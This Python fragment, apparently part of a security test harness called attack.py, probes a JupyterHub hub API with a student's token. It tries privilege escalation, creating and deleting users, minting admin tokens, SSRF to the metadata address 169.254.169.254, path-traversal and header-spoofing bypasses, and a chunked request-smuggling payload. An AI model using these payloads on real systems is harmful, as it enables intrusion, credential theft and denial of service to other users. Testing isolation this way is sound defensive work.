# The third part of attack.py: the hub's API with the token of the student's server.
# ruff: noqa: F821


def ask(method, target, body=b"", token=True, headers=()):
    """One request, spelled byte by byte. Gives status and body."""
    head = [f"{method} {target} HTTP/1.1", "Host: localhost", "Connection: close", f"Content-Length: {len(body)}", *headers]
    if token:
        head.append("Authorization: token " + os.environ["JUPYTERHUB_API_TOKEN"])
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(f"{P['run']}/upstream/hub-api.sock")
        s.sendall("\r\n".join(head).encode() + b"\r\n\r\n" + body)
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    return int(answer.split(b" ", 2)[1]), answer


def granted(method, target, *args, **more):
    code, answer = ask(method, target, *args, **more)
    return f"{code} {answer[-200:]!r}" if code < 400 else None


def hub_rows():
    me, n = P["user"], P["neighbour"]
    ROWS.append(("control", "control: the hub knows whose token it is", lambda: granted("GET", "/hub/api/user")))
    for method, target, body in (
        ("GET", "/hub/api/users", b""), ("GET", f"/hub/api/users/{n}", b""), ("POST", "/hub/api/users", b'{"usernames":["evil"]}'),
        ("POST", "/hub/api/users/evil", b""), ("DELETE", f"/hub/api/users/{n}", b""), ("PATCH", f"/hub/api/users/{n}", b'{"admin":true}'),
        ("PATCH", f"/hub/api/users/{me}", b'{"admin":true}'), ("PATCH", f"/hub/api/users/{me}", b'{"name":"teacher"}'),
        ("POST", f"/hub/api/users/{n}/server", b""), ("DELETE", f"/hub/api/users/{n}/server", b""), ("POST", "/hub/api/users/teacher/server", b""),
        ("GET", f"/hub/api/users/{n}/server/progress", b""), ("GET", f"/hub/api/users/{n}/tokens", b""), ("POST", f"/hub/api/users/{n}/tokens", b"{}"),
        ("POST", "/hub/api/users/teacher/tokens", b"{}"), ("POST", f"/hub/api/users/{me}/tokens", b'{"roles":["admin"]}'),
        ("POST", f"/hub/api/users/{me}/tokens", b'{"scopes":["admin:users"]}'),
        ("POST", f"/hub/api/users/{n}/activity", b'{"last_activity":"2030-01-01T00:00:00Z"}'),
        ("POST", "/hub/api/users/teacher/activity", b'{"last_activity":"2030-01-01T00:00:00Z"}'),
        ("POST", f"/hub/api/users/{n}/shares", b"{}"), ("POST", f"/hub/api/shares/{n}/", b'{"user":"' + me.encode() + b'"}'),
        ("POST", f"/hub/api/share-codes/{n}/", b"{}"), ("GET", "/hub/api/info", b""), ("GET", "/hub/api/proxy", b""), ("POST", "/hub/api/proxy", b""),
        ("PATCH", "/hub/api/proxy", b'{"ip":"evil","port":"1","protocol":"http","auth_token":"x"}'), ("GET", "/hub/api/services", b""),
        ("POST", "/hub/api/services/evil", b'{"url":"http://169.254.169.254"}'), ("GET", "/hub/api/groups", b""), ("POST", "/hub/api/groups/evil", b"{}"),
        ("POST", "/hub/api/shutdown", b'{"servers":true}'), ("GET", "/hub/metrics", b""), ("POST", "/hub/api/oauth2/token", b"grant_type=password"),
        ("GET", f"/hub/api/authorizations/token/{P['neighbour_token']}x", b""),
    ):
        ROWS.append(("the hub's API", f"{method} {target} {body.decode()}", lambda a=(method, target, body): granted(*a)))
    for target in ("/hub/login", "/hub/admin", "/hub/home", "/hub/api/../login", "/hub/api/../admin", "/hub/api/..%2flogin", "/hub/api/%2e%2e/login",
                   "/hub/api/%2E%2E%2Flogin", "/hub/api/.%2e/admin", "/hub/api//../login", "/hub/api/./../login", "//hub/api/users", "/hub//api/users",
                   "/hub/api/users/", "/hub/api//users", "/hub/api/users%2f", "/hub/API/users", "/hub/api;/../login", "/hub/api%2f..%2flogin",
                   "/hub/api\\..\\login", f"/user/{n}/api", f"/hub/user/{n}/api", "/hub/static/../login", "/api/routes", "/hub/api/users?state=active",
                   "http://localhost/hub/admin", "http://169.254.169.254/latest/meta-data", "*", "/hub/api/%00", "/hub/api/users/..;/users", "/metrics"):
        ROWS.append(("the hub's API", f"GET {target}", lambda t=target: granted("GET", t)))
    for name, headers in {
        "X-Forwarded-User": ("X-Forwarded-User: teacher",), "Remote-User": ("Remote-User: teacher", "X-Remote-User: teacher"),
        "two Authorization": ("Authorization: token " + "0" * 32,), "Cookie": ("Cookie: jupyterhub-session-id=x; _xsrf=y",),
        "X-HTTP-Method-Override": ("X-HTTP-Method-Override: GET",), "X-Original-URL": ("X-Original-URL: /hub/admin", "X-Rewrite-URL: /hub/admin"),
    }.items():
        ROWS.append(("the hub's API", f"GET users with {name}", lambda h=headers: granted("GET", "/hub/api/users", headers=h)))
    ROWS.append(("the hub's API", "GET users without a token", lambda: granted("GET", "/hub/api/users", token=False)))
    ROWS.append(("the hub's API", "CONNECT", lambda: granted("CONNECT", "169.254.169.254:80")))
    ROWS.append(("the hub's API", "upgrade to a socket", lambda: granted("GET", "/hub/api/users", headers=("Upgrade: websocket", "Connection: Upgrade"))))
    ROWS.append(("the hub's API", "smuggle a second request", smuggle))


def smuggle():
    """The hidden request has no token: any answer but one is a second answer."""
    hidden = b"GET /hub/admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    body = b"0\r\n\r\n" + hidden
    _, answer = ask("POST", "/hub/api/users", body, headers=("Transfer-Encoding: chunked",))
    return answer[:100].decode() if answer.count(b"HTTP/1.1 ") > 1 and b" 200 " in answer else None
